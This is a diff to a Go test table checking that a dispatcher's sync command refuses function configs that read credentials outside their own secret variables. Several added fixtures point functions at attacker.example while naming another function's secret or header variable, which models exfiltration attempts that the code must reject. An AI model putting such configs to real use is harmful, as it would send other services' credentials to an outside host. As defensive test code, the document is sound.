@@ -286,12 +286,23 @@ func TestSyncPlanSecrets(t *testing.T) {
 			planOptions{Getenv: envOf("DISPATCHER_TOKEN", "t")}, `d.json: function "erase" (functions[0]): secretEnv: DISPATCHER_TOKEN configures dispatcher itself; a function's secret is read from a variable of its own`},
 		{"the server's key, as a header", fnErase, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "headersEnv": {"X-Key": "DISPATCHER_ENCRYPTION_KEY"}}]}`,
 			planOptions{DryRun: true}, `d.json: function "erase" (functions[0]): headersEnv.X-Key: DISPATCHER_ENCRYPTION_KEY configures dispatcher itself; a function's secret is read from a variable of its own`},
-		// … nor the runner's other credentials: only the variables
-		// export names, and those --allow-env allows.
+		// … nor the runner's other credentials, nor another function's:
+		// only the function's own variables, as export names them, and
+		// those --allow-env allows.
 		{"another variable", fnErase, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "headersEnv": {"X-Key": "AWS_SECRET_ACCESS_KEY"}}]}`,
-			planOptions{Getenv: envOf("AWS_SECRET_ACCESS_KEY", "k")}, `d.json: function "erase" (functions[0]): headersEnv.X-Key: sync reads secrets only from variables named DISPATCHER_SECRET_… or DISPATCHER_HEADER_… (as export names them), or named with --allow-env AWS_SECRET_ACCESS_KEY`},
+			planOptions{Getenv: envOf("AWS_SECRET_ACCESS_KEY", "k")}, `d.json: function "erase" (functions[0]): headersEnv.X-Key: AWS_SECRET_ACCESS_KEY is not this function's variable: sync reads it from DISPATCHER_HEADER_ERASE_X_KEY (as export names it), or from a variable named with --allow-env`},
 		{"another variable, in a dry run", fnErase, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "secretEnv": "ERASE_SECRET"}]}`,
-			planOptions{DryRun: true}, `d.json: function "erase" (functions[0]): secretEnv: sync reads secrets only from variables named`},
+			planOptions{DryRun: true}, `d.json: function "erase" (functions[0]): secretEnv: ERASE_SECRET is not this function's variable: sync reads it from DISPATCHER_SECRET_ERASE`},
+		{"another function's secret", withSecret, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "secretEnv": "DISPATCHER_SECRET_ERASE"}, {"name": "audit-hook", "url": "https://attacker.example/", "secretEnv": "DISPATCHER_SECRET_ERASE"}]}`,
+			planOptions{Getenv: envOf("DISPATCHER_SECRET_ERASE", "s")}, `d.json: function "audit-hook" (functions[1]): secretEnv: DISPATCHER_SECRET_ERASE is not this function's variable: sync reads it from DISPATCHER_SECRET_AUDIT_HOOK`},
+		{"another function's header", withSecret, `{"functions": [{"name": "audit-hook", "url": "https://attacker.example/", "headersEnv": {"X-Trace": "DISPATCHER_HEADER_ERASE_X_API_KEY"}}]}`,
+			planOptions{Getenv: envOf("DISPATCHER_HEADER_ERASE_X_API_KEY", "k")}, `d.json: function "audit-hook" (functions[0]): headersEnv.X-Trace: DISPATCHER_HEADER_ERASE_X_API_KEY is not this function's variable: sync reads it from DISPATCHER_HEADER_AUDIT_HOOK_X_TRACE`},
+		// Export's names are not one to one: a function named to be
+		// given another's variable is refused.
+		{"another function's secret, by its name", withSecret, `{"functions": [{"name": "Erase", "url": "https://attacker.example/", "secretEnv": "DISPATCHER_SECRET_ERASE"}]}`,
+			planOptions{Getenv: envOf("DISPATCHER_SECRET_ERASE", "s")}, `d.json: function "Erase" (functions[0]): secretEnv: DISPATCHER_SECRET_ERASE is also the variable of function "erase"`},
+		{"another function's header, by its name", withSecret, `{"functions": [{"name": "erase-x", "url": "https://attacker.example/", "headersEnv": {"Api-Key": "DISPATCHER_HEADER_ERASE_X_API_KEY"}}]}`,
+			planOptions{Getenv: envOf("DISPATCHER_HEADER_ERASE_X_API_KEY", "k")}, `d.json: function "erase-x" (functions[0]): headersEnv.Api-Key: DISPATCHER_HEADER_ERASE_X_API_KEY is also the variable of function "erase"`},
 		{"another variable, allowed", fnErase, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "secretEnv": "ERASE_SECRET"}]}`,
 			planOptions{AllowEnv: []string{"ERASE_SECRET"}, Getenv: envOf("ERASE_SECRET", "s")}, `~ function "erase": secret`},
 		{"--allow-env does not allow dispatcher's own", fnErase, `{"functions": [{"name": "erase", "url": "https://erase.example.com/", "secretEnv": "DATABASE_URL"}]}`,
